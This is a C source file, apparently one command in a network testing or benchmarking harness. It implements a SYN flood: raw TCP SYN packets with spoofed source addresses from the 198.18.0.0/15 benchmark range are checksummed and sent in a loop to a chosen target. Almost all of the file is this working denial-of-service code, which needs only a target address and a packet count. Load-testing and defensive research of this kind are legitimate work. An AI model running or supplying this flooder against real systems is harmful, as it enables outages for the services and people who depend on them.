/* Sends SYNs that no one completes: a SYN flood. */
#include "actor.h"

#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <string.h>
#include <unistd.h>

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

struct pseudo_header {
	uint32_t saddr, daddr;
	uint8_t zero, protocol;
	uint16_t len;
	struct tcphdr tcp;
};

/* RFC 1071 */
static uint16_t checksum(const void *data, size_t len)
{
	uint32_t sum = 0;
	uint16_t word;
	size_t i;

	for (i = 0; i < len; i += sizeof(word)) {
		memcpy(&word, (const char *)data + i, sizeof(word));
		sum += word;
	}
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

/* Builds the @n-th SYN, from an address in 198.18.0.0/15, reserved for benchmarks (RFC 2544). */
static struct packet make_syn(const struct sockaddr_in *to, uint32_t n)
{
	struct packet p = {
		.ip = {.version = 4,
		       .ihl = 5,
		       .ttl = 64,
		       .protocol = IPPROTO_TCP,
		       .saddr = htonl(0xc6120000 | (n & 0x1ffff)),
		       .daddr = to->sin_addr.s_addr},
		.tcp = {.source = htons(1024 + n % 60000),
			.dest = to->sin_port,
			.seq = htonl(n),
			.doff = 5,
			.syn = 1,
			.window = htons(1024)},
	};
	struct pseudo_header h = {
		.saddr = p.ip.saddr,
		.daddr = p.ip.daddr,
		.protocol = IPPROTO_TCP,
		.len = htons(sizeof(p.tcp)),
		.tcp = p.tcp,
	};

	p.tcp.check = checksum(&h, sizeof(h));
	return p;
}

static long send_syns(const struct address *to, long count)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	long i;

	for (i = 0; i < count; i++) {
		struct packet p = make_syn((const struct sockaddr_in *)&to->sa, i);

		if (sendto(fd, &p, sizeof(p), 0, (const struct sockaddr *)&to->sa, to->len) < 0)
			break;
	}
	close(fd);
	return i == count ? i : -1;
}

void cmd_flood(struct call *call)
{
	long count = number(call, 1);
	struct address to = address_words(call, 2);

	TIMED(call, send_syns(&to, count));
}
